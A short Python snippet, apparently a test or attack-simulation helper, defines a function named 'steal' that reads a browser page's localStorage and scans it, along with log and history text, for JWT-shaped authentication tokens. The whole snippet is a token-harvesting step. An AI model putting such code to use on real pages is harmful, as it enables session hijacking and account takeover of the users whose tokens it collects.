# a script in the page
import re


def steal(page, log, history):
    values = page.run(lambda here: list(here.local_storage.values()))
    return set(
        re.findall(
            r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+",
            " ".join([*values, *log, *history]),
        )
    )
